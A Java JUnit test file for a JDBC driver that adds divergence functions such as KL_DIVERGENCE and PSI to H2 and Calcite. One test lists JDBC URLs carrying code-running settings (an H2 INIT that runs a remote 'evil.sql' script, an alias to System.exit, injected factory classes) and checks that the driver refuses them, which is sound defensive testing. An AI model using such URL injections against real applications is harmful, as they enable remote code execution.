package io.github.divergencesql.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.within;

import io.github.divergencesql.core.registry.DivergenceFunction;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.HashSet;
import java.util.Properties;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The JDBC driver on the test class path; IsolatedDriverIT runs it from the jar alone. */
class DivergenceDriverTest {
  private static final double SEED_KL = 0.1 * Math.log(8.0 / 3); // by hand
  private static final String GRADES =
      "(VALUES (0.2, 0.1), (0.3, 0.4), (0.4, 0.3), (0.1, 0.2)) AS t(p, q)";

  private static double single(Connection c, String sql) throws SQLException {
    try (Statement s = c.createStatement(); ResultSet rs = s.executeQuery(sql)) {
      assertThat(rs.next()).isTrue();
      return rs.getDouble(1);
    }
  }

  @Test
  void h2UrlGivesAnH2ConnectionWithTheFunctions() throws SQLException {
    try (Connection c = DriverManager.getConnection("jdbc:divergence:h2:mem:driver1")) {
      assertThat(c.getMetaData().getDatabaseProductName()).isEqualTo("H2");
      assertThat(single(c, "SELECT KL_DIVERGENCE(p, q) FROM " + GRADES))
          .isCloseTo(SEED_KL, within(1e-16));
    }
  }

  @Test
  void calciteUrlGivesACalciteConnectionWithTheFunctionsInItsRootSchema() throws SQLException {
    // no model at all: the functions are in the root schema
    try (Connection c = DriverManager.getConnection("jdbc:divergence:calcite:")) {
      assertThat(c.getMetaData().getDatabaseProductName()).isEqualTo("Calcite");
      assertThat(single(c, "SELECT KL_DIVERGENCE(p, q) FROM " + GRADES))
          .isCloseTo(SEED_KL, within(1e-16));
    }
    // with a model whose default schema is something else
    try (Connection c = DriverManager.getConnection(
        "jdbc:divergence:calcite:model=examples/csv-model.json")) {
      assertThat(single(c, "SELECT KL_DIVERGENCE(class_a, class_b) FROM grades"))
          .isCloseTo(SEED_KL, within(1e-16));
    }
  }

  @Test
  void ourErrorsCarrySqlState22ThroughBothUrlKinds() throws SQLException {
    for (String url : new String[] {"jdbc:divergence:h2:mem:driver2", "jdbc:divergence:calcite:"}) {
      try (Connection c = DriverManager.getConnection(url)) {
        // an aggregate, and the scalar (whose Calcite error is raised while fetching the row)
        for (String sql : new String[] {"SELECT PSI(p - 0.25, q) FROM " + GRADES,
            "SELECT GAUSSIAN_KL(p, 0, 0, 1) FROM " + GRADES}) {
          assertThatThrownBy(() -> single(c, sql))
              .as("%s: %s", url, sql)
              .isInstanceOfSatisfying(SQLException.class, e -> {
                assertThat(e.getSQLState()).isEqualTo("22023");
                assertThat(e.getMessage()).containsAnyOf("PSI: p must be", "GAUSSIAN_KL: sigma1");
              });
        }
        assertThat(single(c, "SELECT JS_DIVERGENCE(p, q) FROM " + GRADES)).isPositive();
      }
    }
  }

  @Test
  void otherErrorsPassThroughUnchanged() throws SQLException {
    try (Connection c = DriverManager.getConnection("jdbc:divergence:calcite:")) {
      assertThatThrownBy(() -> single(c, "SELECT * FROM NO_SUCH_TABLE"))
          .isInstanceOfSatisfying(SQLException.class,
              e -> assertThat(e.getSQLState()).isNotEqualTo("22023"))
          .hasMessageContaining("NO_SUCH_TABLE");
    }
  }

  @Test
  void databaseMetaDataListsTheFunctions() throws SQLException {
    // H2 2.5 reports user-defined functions and aggregates as procedures (its getFunctions is
    // empty); Calcite reports them from getFunctions
    try (Connection c = DriverManager.getConnection("jdbc:divergence:h2:mem:driver3");
        ResultSet rs = c.getMetaData().getProcedures(null, null, "%")) {
      assertThat(names(rs, "PROCEDURE_NAME")).containsAll(allNames());
    }
    try (Connection c = DriverManager.getConnection("jdbc:divergence:calcite:");
        ResultSet rs = c.getMetaData().getFunctions(null, null, "%")) {
      assertThat(names(rs, "FUNCTION_NAME")).containsAll(allNames());
    }
  }

  private static Set<String> names(ResultSet rs, String column) throws SQLException {
    Set<String> names = new HashSet<>();
    while (rs.next()) {
      names.add(rs.getString(column));
    }
    return names;
  }

  private static Set<String> allNames() {
    Set<String> names = new HashSet<>();
    for (DivergenceFunction f : DivergenceFunction.values()) {
      names.add(f.name());
    }
    return names;
  }

  @Test
  void fileDatabaseKeepsTheFunctionsForPlainH2(@TempDir Path dir) throws SQLException {
    String file = dir.resolve("drift").toString();
    try (Connection c = DriverManager.getConnection("jdbc:divergence:h2:" + file, "sa", "")) {
      try (Statement s = c.createStatement()) {
        s.execute("CREATE TABLE g(p DOUBLE PRECISION, q DOUBLE PRECISION)");
        s.execute("INSERT INTO g VALUES (0.2, 0.1), (0.3, 0.4), (0.4, 0.3), (0.1, 0.2)");
      }
    }
    assertThat(Files.exists(Path.of(file + ".mv.db"))).isTrue();
    // plain H2, this project's classes on the class path; a file our driver made keeps names
    // in lower case, which plain H2 reads with DATABASE_TO_LOWER (H2Naming)
    try (Connection c = DriverManager.getConnection("jdbc:h2:" + file + ";DATABASE_TO_LOWER=TRUE",
        "sa", "")) {
      assertThat(single(c, "SELECT KL_DIVERGENCE(p, q) FROM g")).isCloseTo(SEED_KL, within(1e-16));
    }
  }

  @Test
  void settingsThatRunCodeAreRefusedUnlessAllowed() throws SQLException {
    String[] smuggled = {
        "jdbc:divergence:h2:mem:guard;INIT=RUNSCRIPT FROM 'http://127.0.0.1:1/evil.sql'",
        "jdbc:divergence:h2:mem:guard;MODE=MySQL; init = CREATE ALIAS X FOR 'java.lang.System.exit'",
        "jdbc:divergence:h2:mem:guard;DATABASE_EVENT_LISTENER='com.example.Evil'",
        "jdbc:divergence:calcite:schemaFactory=com.example.Evil",
        "jdbc:divergence:calcite:model=examples/csv-model.json;parserFactory=com.example.Evil"};
    for (String url : smuggled) {
      assertThatThrownBy(() -> DriverManager.getConnection(url))
          .as(url)
          .isInstanceOfSatisfying(SQLException.class, e -> {
            assertThat(e.getSQLState()).isEqualTo("08001");
            assertThat(e.getMessage()).contains("can run code").contains(UrlGuard.ALLOW);
          });
    }
    // as a connection property too
    Properties init = new Properties();
    init.setProperty("INIT", "SET @X = 1");
    assertThatThrownBy(() -> DriverManager.getConnection("jdbc:divergence:h2:mem:guard2", init))
        .hasMessageContaining("INIT");
    // the user may ask for it
    Properties allow = new Properties();
    allow.setProperty(UrlGuard.ALLOW, "true");
    try (Connection c = DriverManager.getConnection(
        "jdbc:divergence:h2:mem:guard3;INIT=CREATE TABLE IF NOT EXISTS T(X INT)", allow)) {
      assertThat(single(c, "SELECT COUNT(*) FROM T")).isEqualTo(0.0);
    }
  }

  @Test
  void otherUrlsAreNotOurs() throws SQLException {
    DivergenceDriver d = new DivergenceDriver();
    assertThat(d.acceptsURL("jdbc:h2:mem:x")).isFalse();
    assertThat(d.acceptsURL("jdbc:divergence:mysql:x")).isFalse();
    assertThat(d.connect("jdbc:h2:mem:x", null)).isNull();
  }
}
